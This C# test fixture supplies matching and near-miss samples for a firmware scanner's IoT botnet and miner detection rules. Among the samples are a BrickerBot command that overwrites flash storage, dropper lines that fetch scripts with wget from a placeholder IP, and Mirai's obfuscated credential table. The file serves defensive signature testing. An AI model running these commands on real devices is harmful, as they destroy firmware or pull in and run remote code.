using System.Collections.Generic;

namespace FirmwareScanner.Signatures.Tests.BuiltIn;

/// <summary>Samples for the rules of <c>bots.yar</c>.</summary>
internal static class BotsSamples
{
    public static IEnumerable<RuleSample> All()
    {
        yield return RuleSample.Component(
            "mirai_busybox_probe",
            "'/bin/busybox MIRAI' 00 'MIRAI: applet not found' 00",
            nearMiss: "'/bin/busybox telnetd' 00 'telnetd: applet not found' 00");
        yield return RuleSample.Component(
            "mirai_obfuscated_table",
            "4E4B5156474C4B4C450256574C1222 00 0D4647540D554356414A464D4522 00",
            nearMiss: "4E4B5156474C4B4C450256574C1322 00 0D4647540D554356414A464D4722 00");
        yield return RuleSample.Component(
            "mirai_obfuscated_passwords",
            "504D4D56 00 5A4111171313 00 1557486F494D12544B585A54 00",
            nearMiss: "504D4D56 00 5A4111171314 00 1557486F494D12544B585A55 00");
        yield return RuleSample.Component(
            "gafgyt_bot",
            "00 'LOLNOGTFO' 00 'KILLATTK' 00 'UDP Flooding %s for %d seconds.' 00",
            nearMiss: "00 'LOLNOGTFO' 00 'KILLATTACK' 00");
        yield return RuleSample.Component(
            "kaiten_tsunami_bot",
            "'NOTICE %s :Kaiten wa goraku' 0A00",
            nearMiss: "'NOTICE %s :Kaiten' 0A00");
        yield return RuleSample.Component(
            "hajime_worm",
            "'Just a white hat, securing some systems.' 0A",
            nearMiss: "'Just a grey hat, securing some systems.' 0A");
        yield return RuleSample.Component(
            "brickerbot_destruction",
            "'busybox cat /dev/urandom >/dev/mtdblock0 &' 0A",
            nearMiss: "'busybox cat /dev/urandom >/dev/null &' 0A");
        yield return RuleSample.Component(
            "vpnfilter_stage",
            "'/var/run/vpnfilterw' 00 '/var/run/client_ca.crt' 00",
            nearMiss: "'/var/run/vpnd' 00 '/var/run/client_ca.crt' 00");
        yield return RuleSample.Component(
            "mozi_bot",
            "'http://%s:%d/Mozi.m' 00 'http://%s:%d/Mozi.a' 00",
            nearMiss: "'http://%s:%d/Mozi.p' 00");
        yield return RuleSample.Component(
            "aidra_bot",
            "'wget http://192.0.2.1/getbinaries.sh' 00 'lightaidra' 00",
            nearMiss: "'wget http://192.0.2.1/getbinaries.sh' 00 'light_aidra' 00");
        yield return RuleSample.Component(
            "bot_download_script",
            "'cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.1/b.sh' 0A",
            nearMiss: "'cd /tmp || exit 1; wget http://192.0.2.1/b.sh' 0A");
        yield return RuleSample.Component(
            "stratum_mining_address",
            "'stratum+tcp://pool.example:3333' 00",
            nearMiss: "'stratus+tcp://pool.example:3333' 00");
        yield return RuleSample.Component(
            "xmrig_miner",
            "'donate.v2.xmrig.com' 00",
            nearMiss: "'donate.xmrig.org' 00");
    }
}
